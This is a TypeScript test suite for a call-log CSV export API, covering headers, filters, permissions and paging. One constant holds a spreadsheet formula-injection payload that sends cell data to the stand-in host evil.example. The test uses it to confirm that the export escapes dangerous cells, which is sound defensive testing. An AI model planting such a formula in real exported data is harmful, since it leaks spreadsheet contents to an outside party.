import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { startTestServer, type TestServer } from '../support/server.js';

const HEADER = ['started', 'direction', 'outcome', 'cause', 'number', 'e164', 'name', 'company', 'answered by', 'ring seconds', 'talk seconds', 'queue', 'source'];
const BASE = Date.parse('2024-05-02T08:00:00Z');
const HOUR = 3_600_000;
const EVIL_NAME = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")';

/** GET /calls/export: the call log as a CSV download, with the same filters and rights as GET /calls. */
describe('call log export', () => {
  let server: TestServer;
  let admin: string;
  let kari: { id: number; token: string };
  let ola: { id: number; token: string };
  let per: { id: number; token: string };
  let hook: Awaited<ReturnType<TestServer['pbx']>>;

  /** The raw response and its rows, keyed by header. */
  const exported = async (token: string, query = '') => {
    const response = await fetch(`${server.url}/api/v1/calls/export${query}`, { headers: { authorization: `Bearer ${token}` } });
    // Not response.text(): it drops the BOM the test wants to see.
    const bytes = Buffer.from(await response.arrayBuffer());
    const text = bytes.toString('utf8');
    if (response.status !== 200) return { response, text, rows: [] as Record<string, string>[], header: [] as string[] };
    const records = parse(text, { bom: true }) as string[][];
    const [header, ...rest] = records;
    return { response, text, header: header!, rows: rest.map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i]!]))) };
  };

  before(async () => {
    server = await startTestServer();
    admin = await server.adminToken();
    kari = await server.user('kari', ['201'], { displayName: 'Kari Hansen' });
    ola = await server.user('ola', ['202'], { displayName: 'Ola Berg' });
    per = await server.user('per', ['203'], { displayName: 'Per Lie' });
    hook = await server.pbx();

    // c1: inbound to Kari from a caller whose PBX-reported name is a spreadsheet formula; answered.
    await hook([
      { event: 'ringing', callId: 'c1', extension: '201', remoteNumber: '+4722334455', remoteName: EVIL_NAME, time: BASE },
      { event: 'answered', callId: 'c1', direction: 'inbound', extension: '201', time: BASE + 5_000 },
      { event: 'ended', callId: 'c1', direction: 'inbound', extension: '201', cause: 'completed', time: BASE + 65_000 },
    ]);
    // c2: missed in the @support queue; the name is arithmetic, not a number.
    await hook([
      { event: 'ringing', callId: 'c2', extension: '201', remoteNumber: '+4790012345', remoteName: '-2+3', queue: '@support', time: BASE + HOUR },
      { event: 'missed', callId: 'c2', extension: '201', cause: 'cancelled', time: BASE + HOUR + 20_000 },
    ]);
    // c3: Ola calls out.
    await hook([
      { event: 'dialing', callId: 'c3', extension: '202', remoteNumber: '+4741234567', time: BASE + 2 * HOUR },
      { event: 'answered', callId: 'c3', direction: 'outbound', extension: '202', time: BASE + 2 * HOUR + 8_000 },
      { event: 'ended', callId: 'c3', direction: 'outbound', extension: '202', time: BASE + 2 * HOUR + 68_000 },
    ]);
    // c4: Kari calls out, busy.
    await hook([
      { event: 'dialing', callId: 'c4', extension: '201', remoteNumber: '22 99 88 77', time: BASE + 3 * HOUR },
      { event: 'ended', callId: 'c4', direction: 'outbound', extension: '201', cause: 'busy', time: BASE + 3 * HOUR + 3_000 },
    ]);
    // Per's 550 missed calls, more than one page of the internal paging.
    for (let batch = 0; batch < 11; batch++) {
      const events: Record<string, unknown>[] = [];
      for (let i = 0; i < 50; i++) {
        const n = batch * 50 + i;
        const time = BASE - (n + 1) * 60_000;
        events.push({ event: 'ringing', callId: `p${n}`, extension: '203', remoteNumber: '+4722334455', time });
        events.push({ event: 'missed', callId: `p${n}`, extension: '203', time: time + 10_000 });
      }
      await hook(events);
    }
  });
  after(() => server.close());

  test('a download of the user\'s own calls, newest first, with every column', async () => {
    const { response, text, header, rows } = await exported(kari.token);
    assert.equal(response.status, 200, text);
    assert.match(response.headers.get('content-type')!, /^text\/csv/);
    assert.match(response.headers.get('content-disposition')!, /^attachment; filename="calls-\d{4}-\d{2}-\d{2}\.csv"$/);
    assert.ok(text.startsWith('\uFEFF'), 'a BOM, so Excel reads UTF-8');
    assert.deepEqual(header, HEADER);
    assert.deepEqual(rows.map((r) => r.started), [BASE + 3 * HOUR, BASE + HOUR, BASE].map((t) => new Date(t).toISOString()));
    const c1 = rows[2]!;
    assert.deepEqual(
      { ...c1, name: undefined },
      {
        started: '2024-05-02T08:00:00.000Z',
        direction: 'inbound',
        outcome: 'answered',
        cause: 'completed',
        number: '+4722334455',
        e164: '+4722334455',
        name: undefined,
        company: '',
        'answered by': 'Kari Hansen',
        'ring seconds': '5',
        'talk seconds': '60',
        queue: '',
        source: 'pbx',
      },
    );
    assert.equal(rows[0]!.number, '22 99 88 77');
    assert.equal(rows[0]!.outcome, 'busy');
  });

  test('cells a spreadsheet would run are escaped; phone numbers are not', async () => {
    const { rows } = await exported(kari.token);
    const [c4, c2, c1] = rows;
    assert.equal(c1!.name, `'${EVIL_NAME}`);
    assert.equal(c2!.name, "'-2+3");
    assert.equal(c2!.queue, "'@support");
    assert.equal(c2!.number, '+4790012345', 'a number with + stays as it is');
    assert.equal(c2!.e164, '+4790012345');
    assert.equal(c4!.number, '22 99 88 77');
  });

  test('the GET /calls filters apply', async () => {
    assert.deepEqual((await exported(kari.token, '?outcome=missed')).rows.map((r) => r.queue), ["'@support"]);
    assert.deepEqual((await exported(kari.token, '?direction=outbound')).rows.map((r) => r.cause), ['busy']);
    assert.deepEqual((await exported(kari.token, '?number=%2B4722334455')).rows.map((r) => r.started), ['2024-05-02T08:00:00.000Z']);
    const window = `?from=${BASE + HOUR}&to=${BASE + 2 * HOUR}`;
    assert.deepEqual((await exported(kari.token, window)).rows.map((r) => r.outcome), ['missed']);
    const bad = await exported(kari.token, '?outcome=lost');
    assert.equal(bad.response.status, 400);
    assert.match(bad.text, /outcome/);
  });

  test("a user cannot export someone else's calls; an admin can", async () => {
    for (const query of [`?user=${ola.id}`, '?user=all']) {
      const { response, text } = await exported(kari.token, query);
      assert.equal(response.status, 403, query);
      assert.equal(JSON.parse(text).error.code, 'forbidden');
    }
    assert.deepEqual((await exported(ola.token)).rows.map((r) => r.number), ['+4741234567'], 'Ola gets only his own');
    assert.deepEqual((await exported(admin, `?user=${ola.id}`)).rows.map((r) => r.number), ['+4741234567']);
    assert.equal((await exported(admin)).rows.length, 0, "an admin's own export holds their own calls");
    const everything = await exported(admin, '?user=all');
    assert.equal(everything.rows.length, 4 + 550);
    assert.equal((await fetch(`${server.url}/api/v1/calls/export`)).status, 401);
  });

  test('an export larger than a page holds every call once', async () => {
    const { rows } = await exported(per.token);
    assert.equal(rows.length, 550);
    const starts = rows.map((r) => Date.parse(r.started!));
    assert.equal(new Set(starts).size, 550, 'no call twice');
    assert.deepEqual(starts, [...starts].sort((a, b) => b - a), 'newest first across pages');
  });
});
